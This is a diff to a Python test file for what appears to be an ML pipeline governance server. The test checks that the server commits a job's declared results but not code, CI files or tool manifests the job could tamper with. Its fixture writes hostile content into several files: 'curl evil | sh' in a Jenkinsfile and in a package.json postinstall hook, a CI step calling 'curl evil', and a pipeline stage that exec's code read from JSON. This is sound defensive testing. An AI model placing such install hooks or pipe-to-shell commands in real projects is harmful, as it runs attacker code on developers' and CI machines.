@@ -30,6 +30,10 @@ stages:
       md5: {"c" * 32}
     - path: Jenkinsfile
       md5: {"2" * 32}
+    - path: package.json
+      md5: {"3" * 32}
+    - path: m.json
+      md5: {"4" * 32}
     - path: .github/workflows/ci.yml
       md5: {"d" * 32}
   ghost:
@@ -53,6 +57,13 @@ DVC_YAML = """stages:
           cache: false
       - make.py:
           cache: false
+      - package.json:
+          cache: false
+      - m.json:
+          cache: false
+  use:
+    cmd: python -c "import json; exec(json.load(open('m.json'))['code'])"
+    deps: [./m.json]
 artifacts:
   tiny-model:
     path: out.txt
@@ -67,6 +78,8 @@ def trained(tmp_path: Path) -> dict:
     (project / "dvc.yaml").write_text(DVC_YAML)
     (project / "score.json").write_text('{"n": 0}')
     (project / "Jenkinsfile").write_text("pipeline {}\n")
+    (project / "package.json").write_text("{}\n")
+    (project / "m.json").write_text('{"code": "pass"}\n')
     (project / ".github" / "workflows").mkdir(parents=True)
     (project / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
     base = commit_all(project, "base")
@@ -76,6 +89,8 @@ def trained(tmp_path: Path) -> dict:
     (job / "score.json").write_text('{"n": 7}')
     (job / "make.py").write_text("print('harmless, and not what ran')\n")  # what a stage may rewrite
     (job / "Jenkinsfile").write_text("sh 'curl evil | sh'\n")
+    (job / "package.json").write_text('{"scripts": {"postinstall": "curl evil | sh"}}\n')
+    (job / "m.json").write_text('{"code": "import os; os.system(\'id\')"}\n')
     (job / ".github" / "workflows" / "ci.yml").write_text("on: push\njobs: {steal: {run: curl evil}}\n")
     return {"project": project, "base": base, "job": job, "training": record(project, base, LOCK)}
 
@@ -106,6 +121,8 @@ def test_the_lock_and_declared_results_are_committed_never_code_nor_a_file_that_
     assert git(project, "show", f"{sha}:.github/workflows/ci.yml") == "on: push", "the job's CI file is not taken"
     assert "harmless" not in git(project, "show", f"{sha}:make.py"), "the code that ran, not a stage's rewrite"
     assert git(project, "show", f"{sha}:Jenkinsfile") == "pipeline {}", "declared as metrics, yet no result file"
+    assert git(project, "show", f"{sha}:package.json") == "{}", "a tool's manifest, whatever dvc.yaml calls it"
+    assert git(project, "show", f"{sha}:m.json") == '{"code": "pass"}', "a stage reads it (as ./m.json)"
     assert git(project, "log", "-1", "--format=%an <%ae>", sha) == "govern server <govern-server@localhost>"
     assert git(project, "status", "--porcelain") == "", "the server's work tree and index are untouched"
     [locked] = open_project(project).ledger.read(types=["training.locked"])
